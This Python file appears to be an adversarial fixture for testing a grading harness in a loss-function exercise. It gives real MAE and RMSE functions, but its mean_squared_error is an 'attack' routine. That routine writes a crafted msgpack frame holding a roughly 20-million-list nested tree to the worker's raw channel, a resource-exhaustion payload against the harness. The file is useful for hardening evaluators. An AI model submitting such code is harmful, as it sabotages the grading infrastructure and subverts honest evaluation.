"""Answers with a handle whose number is a tree of twenty million lists."""
# family: wire
# exercise: 02_losses
# honest: 12
# says: answer

import os
import struct

import msgpack
import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def send(data):
    """Write one frame to the worker's own wire by hand."""
    frame = struct.pack(">I", len(data)) + data
    while frame:
        frame = frame[os.write(3, frame) :]


def value(data):
    """Answer with a value that is already packed."""
    send(b"\x93\xa5value" + data + b"\x90")


def row(count):
    """Return the header of a list of ``count`` items."""
    return b"\xdd" + struct.pack(">I", count)


def extension(code, payload):
    return msgpack.packb(msgpack.ExtType(code, payload))


def tree(depth):
    return b"\x90" if depth == 0 else b"\x93" + tree(depth - 1) * 3


def attack(*args):
    payload = tree(15)
    value(b"\xc9" + struct.pack(">IB", len(payload), 6) + payload)


mean_squared_error = attack
